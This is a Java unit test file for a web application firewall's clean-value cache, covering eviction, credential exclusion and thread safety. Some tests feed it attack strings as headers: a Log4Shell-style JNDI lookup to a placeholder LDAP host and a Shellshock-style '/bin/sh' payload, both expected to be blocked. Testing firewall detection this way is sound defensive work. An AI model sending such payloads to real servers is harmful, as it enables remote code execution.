// Copyright the GatewayKit authors
// SPDX-License-Identifier: Apache-2.0
package io.gatewaykit.waf.internal.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.gatewaykit.api.request.Headers;
import io.gatewaykit.waf.RuleHit;
import io.gatewaykit.waf.Waf;
import io.gatewaykit.waf.WafLimits;
import io.gatewaykit.waf.WafRequest;
import io.gatewaykit.waf.internal.index.ConditionSet;
import io.gatewaykit.waf.internal.value.Value;
import io.gatewaykit.waf.rule.Condition;
import io.gatewaykit.waf.rule.Rule;
import io.gatewaykit.waf.rule.Target;
import java.util.ArrayList;
import java.util.BitSet;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Test;

class CleanValueCacheTest {
  private final ConditionSet audience = audience(true);
  private final CleanValueCache values = new CleanValueCache(64);

  private static ConditionSet audience(boolean lasting) {
    BitSet parts = new BitSet();
    parts.set(0);
    return new ConditionSet(parts, List.of(new ConditionSet.ConditionGroup(0, parts)), 0, lasting);
  }

  private static Value field(String name, String text) {
    return new Value(Target.HEADER, name, text);
  }

  private boolean isKept(Value value) {
    values.add(value, audience);
    return values.contains(value, audience);
  }

  @Test
  void contains_dependsOnTextAndConditions() {
    assertThat(values.contains(field("accept", "*/*"), audience)).isFalse();
    values.add(field("accept", "*/*"), audience);

    assertThat(values.contains(field("accept", "*/*"), audience)).isTrue();
    assertThat(values.contains(field("accept-too", "*/*"), audience)).isTrue();
    assertThat(values.contains(field("accept", "*/* "), audience)).isFalse();
    assertThat(values.contains(field("accept", "*/*"), audience(true))).isFalse();
  }

  @Test
  void add_keepsRepeatedValues_andNoCredentials() {
    assertThat(isKept(field("user-agent", "Mozilla/5.0"))).isTrue();
    assertThat(isKept(new Value(Target.HEADER_NAME, "authorization", "authorization"))).isTrue();
    assertThat(isKept(new Value(Target.METHOD, "method", "GET"))).isTrue();
    assertThat(isKept(new Value(Target.ARG_NAME, "lang", "lang"))).isTrue();
    assertThat(isKept(new Value(Target.COOKIE_NAME, "session", "session"))).isTrue();
    assertThat(isKept(field("x", "a".repeat(256)))).isTrue();

    assertThat(isKept(field("x", "a".repeat(257)))).isFalse();
    assertThat(isKept(field("authorization", "Bearer abc"))).isFalse();
    assertThat(isKept(field("X-Api-Key", "k1"))).isFalse();
    for (Target target : List.of(Target.ARG, Target.COOKIE, Target.PATH, Target.URI)) {
      assertThat(isKept(new Value(target, "n", target + " text"))).isFalse();
    }
  }

  @Test
  void add_audienceThatIsMadeForOneValue_isNotKept() {
    ConditionSet once = audience(false);
    values.add(field("x-file-name", "a.txt"), once);

    assertThat(values.contains(field("x-file-name", "a.txt"), once)).isFalse();
  }

  @Test
  void add_moreThanTheCapacity_keepsTheNewest() {
    for (int i = 0; i < 10_000; i++) {
      assertThat(isKept(field("x", "value " + i))).isTrue();
    }
    long kept = 0;
    for (int i = 0; i < 10_000; i++) {
      kept += values.contains(field("x", "value " + i), audience) ? 1 : 0;
    }

    assertThat(kept).isBetween(32L, 64L);
  }

  @Test
  void add_valuesOfOneRequest_doNotEvictEachOther() {
    int missed = 0;
    for (int i = 0; i < 100; i++) {
      CleanValueCache table = new CleanValueCache(1_024);
      ConditionSet own = audience(true); // its hash selects the buckets
      for (int k = 0; k < 40; k++) {
        table.add(field("x", "value " + k), own);
      }
      for (int k = 0; k < 40; k++) {
        missed += table.contains(field("x", "value " + k), own) ? 0 : 1;
      }
    }

    assertThat(missed).isLessThanOrEqualTo(1);
  }

  @Test
  void none_keepsNothing() {
    CleanValueCache none = new CleanValueCache(0);
    none.add(field("accept", "*/*"), audience);

    assertThat(none.contains(field("accept", "*/*"), audience)).isFalse();
  }

  @Test
  void one_keepsTheLast() {
    CleanValueCache one = new CleanValueCache(1);
    one.add(field("accept", "*/*"), audience);

    assertThat(one.contains(field("accept", "*/*"), audience)).isTrue();
  }

  @Test
  void rememberedValues_outOfRange_isRejected() {
    assertThatThrownBy(() -> WafLimits.builder().rememberedValues(-1))
        .hasMessage("rememberedValues: -1 (expected: 0..65536)");
    assertThatThrownBy(() -> WafLimits.builder().rememberedValues(65_537))
        .hasMessage("rememberedValues: 65537 (expected: 0..65536)");
  }

  @Test
  void sameAttackInTheSameField_isFoundEachTime() {
    Waf waf = Waf.builder().build();
    WafRequest harmless = WafRequest.of("GET", "/", Headers.of("User-Agent", "Mozilla/5.0"));
    WafRequest attack =
        WafRequest.of("GET", "/", Headers.of("User-Agent", "${jndi:ldap://a.example/x}"));
    for (int i = 0; i < 5; i++) {
      assertThat(waf.inspect(harmless).blocked()).isFalse();
      assertThat(waf.inspect(attack).blocked()).isTrue();
    }
  }

  @Test
  void sameTextInAFieldOfItsOwnRules_isLookedAtByThese() {
    Waf waf =
        Waf.builder()
            .families()
            .rule(
                Rule.builder("own")
                    .when(Condition.on(Target.HEADER.named("x-own")).matches("^plain$"))
                    .build())
            .rule(Rule.builder("all").when(Condition.on(Target.HEADER).matches("^never$")).build())
            .build();

    assertThat(waf.inspect(WafRequest.of("GET", "/", Headers.of("Other", "plain"))).hits())
        .isEmpty();
    assertThat(waf.inspect(WafRequest.of("GET", "/", Headers.of("X-Own", "plain"))).hits())
        .extracting(RuleHit::rule)
        .containsExactly("own");
  }

  @Test
  void manyThreads_sameResultsAsWithoutCache() throws Exception {
    WafLimits limits = WafLimits.builder().rememberedValues(8).build(); // entries evict each other
    Waf waf = Waf.builder().limits(limits).build();
    ExecutorService threads = Executors.newFixedThreadPool(4);
    try {
      List<Future<?>> ends = new ArrayList<>();
      for (int t = 0; t < 4; t++) {
        int thread = t;
        ends.add(
            threads.submit(() -> {
              for (int i = 0; i < 3_000; i++) {
                boolean attack = (i + thread) % 7 == 0;
                String text = attack ? "() { :;}; /bin/sh" : "agent " + i % 23;
                WafRequest request = WafRequest.of("GET", "/", Headers.of("User-Agent", text));
                assertThat(waf.inspect(request).blocked()).as(text).isEqualTo(attack);
              }
            }));
      }
      for (Future<?> end : ends) {
        end.get();
      }
    } finally {
      threads.shutdownNow();
    }
  }
}
